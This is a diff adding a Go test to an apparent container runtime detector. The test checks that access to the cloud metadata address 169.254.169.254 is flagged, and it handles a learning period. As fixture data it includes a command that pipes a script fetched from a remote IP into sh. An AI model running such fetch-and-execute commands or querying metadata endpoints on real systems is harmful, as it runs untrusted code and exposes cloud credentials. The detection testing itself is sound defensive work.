@@ -376,3 +376,29 @@ func TestHistoryIsOnlyWhatIsNothingElse(t *testing.T) {
 		}
 	}
 }
+
+// What nobody ever did is new once what could have told it was known for long
+// enough: memory need not have held one of the kind before.
+func TestWhatNobodyEverDidIsNew(t *testing.T) {
+	for _, since := range []int{7200, 60} { // for two hours, of which one is the learning period; or for a minute
+		w := newTale(t, strictPolicy)
+		w.create(0, 1, "good.example/x:1")
+		w.start(1, 1, 500)
+		w.describe(1, 6, "172.17.0.8")
+		w.connect(3, "172.17.0.8", "10.0.0.9:5432")
+		w.create(since, 2, "evil.example/x:1")
+		w.start(since+1, 2, 600)
+		w.describe(2, 7, "172.17.0.9")
+		w.connect(since+3, "172.17.0.9", "169.254.169.254:80")
+		w.run(since+4, 600, "sh", "-c", "curl http://203.0.113.7/i | sh")
+		f := w.one()
+		for _, s := range f.Signals {
+			if s.Name == "metadata-access" && s.Learning != (since == 60) {
+				t.Errorf("after %d s: only noted: %v", since, s.Learning)
+			}
+		}
+		if !slices.Contains(signals(f), "metadata-access") {
+			t.Errorf("after %d s: %v", since, signals(f))
+		}
+	}
+}
